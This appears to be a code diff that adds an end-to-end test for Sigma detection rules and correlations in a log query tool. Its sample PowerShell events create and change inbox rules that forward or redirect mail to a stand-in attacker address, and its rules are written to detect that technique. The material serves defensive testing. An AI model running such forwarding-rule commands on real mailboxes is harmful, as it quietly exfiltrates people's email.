@@ -158,4 +158,56 @@ TEST_F(QueryE2e, RealSysmonXmlSample) {
     EXPECT_EQ(none.code, 1);
 }
 
+// Sigma: a rule file, exit codes 0 / 1 / 2, load errors with their position, correlations.
+TEST_F(QueryE2e, SigmaRuleFileAndCorrelation) {
+    std::string events = write(
+        "ps.ndjson",
+        R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":{"ScriptBlockText":"New-InboxRule -Name a -ForwardTo x@evil.example"}},"user":{"name":"u1"}})"
+        "\n"
+        R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":{"ScriptBlockText":"Set-InboxRule -Identity a -RedirectTo y@evil.example"}},"user":{"name":"u1"}})"
+        "\n");
+    std::string rule = write("fwd.yml",
+                             "title: Forwarding rule\nlevel: high\nlogsource:\n    product: "
+                             "windows\n    category: ps_script\n"
+                             "detection:\n    cmdlet:\n        ScriptBlockText|contains: "
+                             "['New-InboxRule', 'Set-InboxRule']\n"
+                             "    params:\n        ScriptBlockText|contains: ['ForwardTo', "
+                             "'RedirectTo']\n    condition: cmdlet and params\n");
+    Result r = run("--rule " + rule + " " + events);
+    EXPECT_EQ(r.code, 0) << r.err;
+    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 2) << r.out;
+    EXPECT_EQ(r.out.rfind("{\"events\":[{", 0), 0u) << r.out;
+
+    std::string none =
+        write("none.yml",
+              "title: None\nlogsource:\n    product: windows\n    category: ps_script\n"
+              "detection:\n    sel:\n        ScriptBlockText|contains: 'Get-Mailbox'\n    "
+              "condition: sel\n");
+    Result n = run("--explain --rule " + none + " " + events);
+    EXPECT_EQ(n.code, 1);
+    EXPECT_NE(n.err.find("sel: ScriptBlockText|contains: Get-Mailbox"), std::string::npos) << n.err;
+
+    std::string bad = write("bad.yml",
+                            "title: Bad\ndetection:\n    sel:\n        X|cidr|startswith: "
+                            "'10.0.0.0/8'\n    condition: sel\n");
+    Result b = run("--rule " + bad + " " + events);
+    EXPECT_EQ(b.code, 2);
+    EXPECT_NE(b.err.find("bad.yml:4:9: detection.sel.X|cidr|startswith: contradictory modifiers"),
+              std::string::npos)
+        << b.err;
+
+    std::string corr = write("corr.yml",
+                             "title: Rule change\nname: change\nlogsource:\n    product: windows\n "
+                             "   category: ps_script\n"
+                             "detection:\n    sel:\n        ScriptBlockText|contains: "
+                             "'InboxRule'\n    condition: sel\n---\n"
+                             "title: Two rule changes\ncorrelation:\n    type: event_count\n    "
+                             "rules: [change]\n    group-by: [User]\n"
+                             "    timespan: 1m\n    condition:\n        gte: 2\n");
+    Result c = run("--rule " + corr + " " + events);
+    EXPECT_EQ(c.code, 0) << c.err;
+    EXPECT_EQ(std::count(c.out.begin(), c.out.end(), '\n'), 1) << c.out;
+    EXPECT_EQ(c.out.rfind("{\"join_keys\":[\"u1\"],\"events\":[{", 0), 0u) << c.out;
+}
+
 }  // namespace
